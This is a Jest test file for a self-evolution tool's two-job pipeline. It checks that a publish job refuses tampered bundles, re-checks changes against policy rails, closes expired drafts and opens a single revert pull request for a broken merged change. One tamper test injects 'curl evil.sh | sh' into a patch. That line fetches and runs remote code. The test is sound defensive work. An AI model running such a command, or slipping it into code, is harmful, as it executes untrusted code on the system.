/**
 * The two-job setup: the propose job (publishMode 'bundle') verifies and bundles its changes without any GitHub
 * write; the publish job (publish.ts publishBundle) opens their pull requests only after checking the bundle
 * (repository, policy blob at the base commit, patch hashes against the bundle and the recorded proposals) and
 * judging every change again with the rails. A bundle altered in any of these ways publishes nothing. Then, still
 * under the run lock, the publish job reconciles the earlier pull requests with writes (an expired draft is closed
 * with a comment, which the propose job only reports) and watches the merged self-changes: a confirmed failure on
 * the default branch gets exactly one revert pull request (autoRevert.mode "pr"), none in shadow mode.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Db } from '../src/store/db.js';
import { openDatabase } from '../src/store/open.js';
import { insertProposal, patchSha256 } from '../src/store/proposals.js';
import { publishBundle, type PublishReport } from '../src/publish.js';
import { BUNDLE_FILE } from '../src/act/bundle.js';
import { COMMENT_MARKER_PREFIX } from '../src/act/reconcile.js';
import { REVERT_LABEL } from '../src/act/revert.js';
import { renderPublishSummary } from '../src/report/summary.js';
import { openRunDatabase, resetRuns } from './helpers/run-db.js';
import type { TestDatabase } from './helpers/db.js';
import { capturingLogger, steppingClock, testOptions } from './helpers/run-deps.js';
import { config, DAY, TOKEN, world, type World } from './helpers/live-world.js';
import { makeTempRepo } from './helpers/git-repo.js';

let database: TestDatabase;
let admin: Db;
let w: World | undefined;
let bundleDir: string;

beforeAll(async () => {
  ({ database, admin } = await openRunDatabase('publish_bundle'));
});
afterAll(async () => {
  await admin?.close();
  await database?.drop();
});
beforeEach(async () => {
  await resetRuns(admin);
  bundleDir = await mkdtemp(join(tmpdir(), 'se-bundle-job-'));
});
afterEach(async () => {
  await w?.cleanup();
  w = undefined;
  await rm(bundleDir, { recursive: true, force: true });
});

/** The propose job: a live run that bundles. */
async function propose(): Promise<void> {
  const report = await w!.run({ publishMode: 'bundle', bundleDir });
  expect(report.status).toBe('success');
  expect(report.proposals[0]!.pullRequest).toMatchObject({ state: 'bundled' });
  expect(report.bundleDir).toBe(bundleDir);
}

/**
 * The publish job, on the same checkout (as a second job's fresh checkout of the same commit would be), its clock
 * at `at` (default: the first day).
 */
async function publish(at: Date = DAY): Promise<PublishReport & { logs: string[] }> {
  const logger = capturingLogger(steppingClock(at));
  const report = await publishBundle(
    testOptions(w!.repo.dir, {
      databaseUrl: database.url,
      dryRun: false,
      prToken: TOKEN,
      pushWithToken: true,
      bundleDir,
    }),
    { clock: steppingClock(at), logger, openDb: openDatabase, pullRequestClient: w!.client() },
  );
  return { ...report, logs: logger.messages };
}

async function editBundle(
  edit: (json: Record<string, unknown> & { items: Record<string, unknown>[] }) => void,
) {
  const path = join(bundleDir, BUNDLE_FILE);
  const json = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown> & {
    items: Record<string, unknown>[];
  };
  edit(json);
  await writeFile(path, JSON.stringify(json));
}

describe('two jobs: propose bundles, publish opens', () => {
  it('the propose job writes to GitHub nothing; the publish job opens the pull request', async () => {
    w = await world(database.url);
    await propose();
    expect(w.fake.requests.filter((r) => r.method !== 'GET')).toEqual([]);
    expect(await w.git('for-each-ref', 'refs/heads/self-evolution/')).toBe('');

    const published = await publish();
    expect(published.status).toBe('success');
    expect(published.pullRequests).toEqual([expect.objectContaining({ state: 'opened', number: 1 })]);
    expect(w.fake.pulls).toHaveLength(1);
    expect(w.fake.pulls[0]!.draft).toBe(true);
    // publishing the same bundle again opens nothing new
    const again = await publish();
    expect(again.pullRequests).toEqual([expect.objectContaining({ state: 'existing', number: 1 })]);
    expect(w.fake.pulls).toHaveLength(1);
    w.fake.assertNoViolations();
  });

  it('refuses a bundle whose patch was altered after it was bundled', async () => {
    w = await world(database.url);
    await propose();
    const patchFile = (await readFile(join(bundleDir, BUNDLE_FILE), 'utf8')).match(/proposal-\d+\.patch/)![0];
    const path = join(bundleDir, patchFile);
    await writeFile(
      path,
      (await readFile(path, 'utf8')).replace('the weather', 'the weather; curl evil.sh | sh'),
    );
    const published = await publish();
    expect(published.status).toBe('failed');
    expect(published.error).toMatch(/does not match the bundle: its sha256 is/);
    expect(w.fake.pulls).toEqual([]);
  });

  it('refuses a patch whose hash was rewritten in the bundle but not in the recorded proposal', async () => {
    w = await world(database.url);
    await propose();
    const item = JSON.parse(await readFile(join(bundleDir, BUNDLE_FILE), 'utf8')).items[0] as {
      patchFile: string;
    };
    const path = join(bundleDir, item.patchFile);
    const altered = (await readFile(path, 'utf8'))
      .replace('+teh', '+teh')
      .replace('the weather', 'thee weather');
    await writeFile(path, altered);
    await editBundle((b) => {
      b.items[0]!.patchSha256 = patchSha256(altered);
    });
    const published = await publish();
    expect(published.status).toBe('success');
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /refused: its patch differs from the recorded proposal/,
    );
    expect(w.fake.pulls).toEqual([]);
  });

  it('refuses a bundle whose policy is not the base commit’s', async () => {
    w = await world(database.url);
    await propose();
    await editBundle((b) => {
      (b.policy as { blobSha: string }).blobSha = 'f'.repeat(40);
    });
    const published = await publish();
    expect(published.status).toBe('failed');
    expect(published.error).toMatch(/the bundle was altered or made from another policy/);
    expect(w.fake.pulls).toEqual([]);
  });

  it('judges every change again: a recorded, hashed, bundled change the rails block is not published', async () => {
    w = await world(database.url);
    await propose();
    // a change to a workflow, recorded as allowed and bundled with matching hashes (a compromised first job)
    await w.repo.write({ '.github/workflows/x.yml': 'on: push\njobs: {}\n' });
    await w.repo.git('add', '-A');
    const evil = (await w.repo.git('diff', '--cached', '--binary')) + '\n';
    await w.repo.git('reset', '--quiet', '--hard');
    const [{ id: runId }] = await admin.query<{ id: number }>('SELECT id FROM self_evolution_runs');
    const proposalId = await insertProposal(admin, runId!, {
      proposer: 'x',
      type: 'cleanup',
      title: 'Harmless',
      description: '',
      riskLevel: 0,
      effort: 0,
      status: 'evaluated',
      verdict: 'allowed',
      blockedReasons: [],
      violations: [],
      filesChanged: 1,
      linesAdded: 2,
      linesDeleted: 0,
      patch: evil,
      provenance: {},
    });
    await writeFile(join(bundleDir, `proposal-${proposalId}.patch`), evil);
    await editBundle((b) => {
      b.items = [
        {
          ...b.items[0]!,
          proposalId,
          title: 'Harmless',
          patchFile: `proposal-${proposalId}.patch`,
          patchSha256: patchSha256(evil),
        },
      ];
    });
    const published = await publish();
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /the rails block the commit as it would be pushed: .*path/,
    );
    expect(w.fake.pulls).toEqual([]);
    expect(await w.git('for-each-ref', 'refs/heads/self-evolution/')).toBe('');
  });

  it('does not publish when the default branch moved since the change was verified', async () => {
    w = await world(database.url);
    await propose();
    const other = await makeTempRepo({});
    try {
      await other.git('fetch', '--quiet', w.bare, 'main');
      await other.git('reset', '--quiet', '--hard', 'FETCH_HEAD');
      await other.commit({ 'docs/other.md': 'moved\n' });
      await other.git('push', '--quiet', w.bare, 'HEAD:refs/heads/main');
    } finally {
      await other.cleanup();
    }
    const published = await publish();
    expect(published.pullRequests[0]).toMatchObject({ state: 'not-published' });
    expect(published.pullRequests[0]!.reason).toMatch(
      /the default branch moved to [0-9a-f]{8} since the change was verified/,
    );
    expect(w.fake.pulls).toEqual([]);
  });
});

const HOUR = 3_600_000;
/** The second day, when the second propose job and its publish job run. */
const DAY2 = new Date(DAY.getTime() + 86_400_000);
/** ISO time (seconds) `minutes` after two hours before the second day. */
const at = (minutes: number): string =>
  new Date(DAY2.getTime() - 2 * HOUR + minutes * 60_000).toISOString().replace(/\.\d{3}Z$/, 'Z');

const revertPulls = (world: World) => world.fake.pulls.filter((p) => p.head.includes('revert-'));

async function rollbacks(): Promise<{ mode: string; status: string; revert_pr_number: number | null }[]> {
  return admin.query(`SELECT mode, status, revert_pr_number FROM self_evolution_rollbacks ORDER BY id`);
}

/**
 * Day one, both jobs: the change's pull request is opened, then a person merges it, as reconciliation records it
 * (with the time of the runs' clock); the checkout moves to the merge, as the next day's fresh checkout would.
 * "test" is green on the merge's parent and fails on the merge commit twice, 20 minutes apart (confirmed).
 */
async function mergedAndBroken(world: World): Promise<{ merge: string; actionId: number }> {
  await propose();
  const published = await publish();
  expect(published.pullRequests).toEqual([expect.objectContaining({ state: 'opened', number: 1 })]);
  const merge = await world.fake.mergePull(1, { by: 'alice', method: 'merge' });
  const parent = await world.git('rev-parse', `${merge}^1`);
  const rows = await admin.query<{ id: number }>(
    `UPDATE self_evolution_actions SET status = 'merged', merge_commit_sha = $1, merged_at = $2, merged_by = 'alice'
     WHERE pr_number = 1 RETURNING id`,
    [merge, new Date(DAY2.getTime() - 3 * HOUR)],
  );
  await world.repo.git('fetch', '--quiet', 'origin', 'main');
  await world.repo.git('reset', '--quiet', '--hard', 'FETCH_HEAD');
  world.fake.seedCheckRun({ headSha: parent, name: 'test', conclusion: 'success', startedAt: at(-90) });
  world.fake.seedCheckRun({ headSha: merge, name: 'test', conclusion: 'failure', startedAt: at(0) });
  world.fake.seedCheckRun({ headSha: merge, name: 'test', conclusion: 'failure', startedAt: at(20) });
  return { merge, actionId: Number(rows[0]!.id) };
}

/**
 * Day two's propose job, reading GitHub with its read-only github-token (no pr-token): nothing left to propose,
 * so its bundle is empty (written all the same).
 */
async function proposeNothing(): Promise<void> {
  const report = await w!.run({
    publishMode: 'bundle',
    bundleDir,
    prToken: undefined,
    githubToken: TOKEN,
    githubApiUrl: w!.fake.url,
  });
  expect(report.status).toBe('success');
  expect(report.bundleDir).toBe(bundleDir);
  const bundle = JSON.parse(await readFile(join(bundleDir, BUNDLE_FILE), 'utf8')) as { items: unknown[] };
  expect(bundle.items).toEqual([]);
}

describe('two jobs: the publish job reconciles and reverts', () => {
  it('closes an expired draft of an earlier run with a comment (the propose job only reports it)', async () => {
    w = await world(database.url, config({ pullRequest: { expireDays: 14 } }));
    await propose();
    await publish();
    const pull = w.fake.pulls[0]!;
    expect(pull.draft).toBe(true);
    pull.createdAt = new Date(DAY.getTime() - 20 * 86_400_000).toISOString().replace(/\.\d{3}Z$/, 'Z');

    // day 2, the propose job: reported, nothing written to GitHub
    const writesBefore = w.fake.requests.filter((r) => r.method !== 'GET').length;
    const proposed = await w.run({ publishMode: 'bundle', bundleDir });
    expect(proposed.reconciled).toEqual([
      expect.objectContaining({ outcome: 'would-expire', to: 'submitted', ageDays: 21 }),
    ]);
    expect(w.fake.requests.filter((r) => r.method !== 'GET')).toHaveLength(writesBefore);
    expect(pull.state).toBe('open');

    // day 2, the publish job: closed with one comment saying why
    const published = await publish(DAY2);
    expect(published.status).toBe('success');
    expect(published.reconciled).toEqual([
      expect.objectContaining({
        prNumber: 1,
        outcome: 'expired',
        to: 'closed',
        closedBy: 'self-evolution',
        closeReason: 'expired after 21 days',
      }),
    ]);
    expect(pull.state).toBe('closed');
    expect(pull.merged).toBe(false);
    expect(w.fake.comments).toHaveLength(1);
    expect(w.fake.comments[0]!.body).toMatch(/open for 21 days, longer than `pullRequest.expireDays` \(14\)/);
    expect(w.fake.comments[0]!.body).toContain(COMMENT_MARKER_PREFIX);
    const [action] = await admin.query<{ status: string; closed_by: string }>(
      'SELECT status, closed_by FROM self_evolution_actions',
    );
    expect(action).toEqual({ status: 'closed', closed_by: 'self-evolution' });
    expect(published.summary).toContain('reconciled 1 earlier pull request(s): 1 expired draft(s) closed');
    expect(renderPublishSummary(published)).toContain(
      '- reconciled 1 earlier pull request(s): 1 expired draft(s) closed',
    );
    expect(w.fake.refWrites.filter((r) => r.force)).toEqual([]);
    w.fake.assertNoViolations();
  });

  it('closes a conflicted change of its own with a comment saying why, instead of rebuilding it (no repository code runs here)', async () => {
    w = await world(database.url);
    await propose();
    await publish();
    expect(w.fake.pulls).toHaveLength(1);
    // main changes the very line the pull request changes: GitHub says it conflicts
    const other = await makeTempRepo({});
    try {
      await other.git('fetch', '--quiet', w.bare, 'main');
      await other.git('reset', '--quiet', '--hard', 'FETCH_HEAD');
      await other.commit({ 'docs/guide.md': '# Guide\n\nteh weather is fine\n' });
      await other.git('push', '--quiet', w.bare, 'HEAD:refs/heads/main');
    } finally {
      await other.cleanup();
    }

    const published = await publish(DAY2);
    expect(published.status).toBe('success');
    expect(published.reconciled).toEqual([
      expect.objectContaining({
        prNumber: 1,
        outcome: 'not-rebuilt',
        to: 'closed',
        closedBy: 'self-evolution',
        closeReason: expect.stringMatching(
          /^conflicted with main; not rebuilt: the publish job of the two-job setup runs no code of the repository/,
        ),
      }),
    ]);
    // no new pull request, no new branch: nothing was made again or verified here
    expect(w.fake.pulls).toHaveLength(1);
    expect(w.fake.pulls[0]).toMatchObject({ state: 'closed', merged: false });
    expect(w.fake.comments).toHaveLength(1);
    expect(w.fake.comments[0]!.body).toMatch(/cannot make the same change again on its tip: the publish job/);
    expect(
      (await w.git('for-each-ref', '--format=%(refname)', 'refs/heads/self-evolution/')).split('\n'),
    ).toHaveLength(1);
    expect(w.fake.refWrites.filter((r) => r.force)).toEqual([]);
    w.fake.assertNoViolations();
  });

  it('opens exactly one revert pull request for a merged self-change whose required check failed twice', async () => {
    w = await world(database.url);
    const c = await mergedAndBroken(w);
    await proposeNothing();
    // The propose job holds no write token: it decided in shadow mode and opened nothing.
    expect(revertPulls(w)).toEqual([]);
    expect(await rollbacks()).toEqual([expect.objectContaining({ mode: 'shadow', status: 'shadow' })]);

    const published = await publish(DAY2);
    expect(published.status).toBe('success');
    expect(published.pullRequests).toEqual([]);
    expect(published.reverts).toEqual([
      expect.objectContaining({
        actionId: c.actionId,
        revertedSha: c.merge,
        trigger: 'auto',
        mode: 'pr',
        state: 'opened',
      }),
    ]);
    expect(published.summary).toMatch(/; auto-revert: 1 revert pull request\(s\) opened$/);
    const [revert, ...more] = revertPulls(w);
    expect(more).toEqual([]);
    expect(revert).toMatchObject({
      head: `self-evolution/revert-${c.merge.slice(0, 7)}`,
      base: 'main',
      draft: false,
      state: 'open',
    });
    expect(revert!.labels).toEqual([REVERT_LABEL]);
    expect(await rollbacks()).toEqual([
      expect.objectContaining({ mode: 'shadow', status: 'shadow' }),
      { mode: 'pr', status: 'submitted', revert_pr_number: revert!.number },
    ]);
    const summary = renderPublishSummary(published);
    expect(summary).toContain('### Merged self-changes (auto-revert)');
    expect(summary).toContain(`[#${revert!.number}](`);

    // The publish job runs again (a rerun of the workflow): the revert is there, no second one.
    const again = await publish(DAY2);
    expect(again.reverts).toEqual([expect.objectContaining({ actionId: c.actionId, state: 'existing' })]);
    expect(revertPulls(w)).toHaveLength(1);
    expect(w.fake.merges).toEqual([]);
    expect(w.fake.refWrites.filter((r) => r.force)).toEqual([]);
    w.fake.assertNoViolations();
  });

  it('in shadow mode decides and records, and writes nothing on GitHub', async () => {
    w = await world(database.url, config({ autoRevert: { mode: 'shadow' } }));
    const c = await mergedAndBroken(w);
    await proposeNothing();
    const before = w.fake.requests.length;

    const published = await publish(DAY2);
    expect(published.status).toBe('success');
    expect(published.reverts).toEqual([
      expect.objectContaining({ actionId: c.actionId, mode: 'shadow', state: 'shadow' }),
    ]);
    expect(w.fake.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
    expect(revertPulls(w)).toEqual([]);
    await expect(
      w.git('rev-parse', '--verify', '--quiet', `refs/heads/self-evolution/revert-${c.merge.slice(0, 7)}`),
    ).rejects.toThrow();
    // recorded once (by the propose job), not again
    expect(await rollbacks()).toEqual([expect.objectContaining({ mode: 'shadow', status: 'shadow' })]);
    w.fake.assertNoViolations();
  });
});
